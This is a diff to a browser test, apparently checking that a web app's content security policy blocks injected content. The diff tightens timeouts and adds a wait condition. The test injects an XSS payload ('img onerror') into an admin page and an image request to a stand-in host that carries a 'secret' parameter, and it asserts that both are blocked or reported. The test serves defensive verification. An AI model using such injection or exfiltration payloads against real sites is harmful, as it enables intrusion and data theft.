@@ -181,7 +181,7 @@ def test_no_page_breaks_its_policy(server, browser):
     broken: dict[str, list[str]] = {}
 
     def look(at: str) -> None:
-        page.wait_for_timeout(150)  # what scripts do after loading
+        page.wait_for_timeout(30)  # what scripts do later counts for the next page
         if found := [*said, *(words for frame in page.frames for words in frame.evaluate("window.broken || []"))]:
             broken[at] = found
         said.clear()
@@ -203,11 +203,10 @@ def test_no_page_breaks_its_policy(server, browser):
             look(f"{path}, {click}")
     page.goto(f"{server.url}/admin/")
     page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=\"window.hacked = 1\">')")
-    page.wait_for_timeout(300)
+    page.wait_for_timeout(100)
     assert page.evaluate("window.hacked") is None  # a script in what somebody has typed would not run
     page.evaluate("document.body.insertAdjacentHTML('beforeend', '<img src=\"https://evil.example/?secret\">')")
-    page.wait_for_timeout(300)
-    assert any("evil.example" in words for words in page.evaluate("window.broken"))
+    page.wait_for_function("window.broken.some((words) => words.includes('evil.example'))")
     page.close()
     assert broken == {}
 
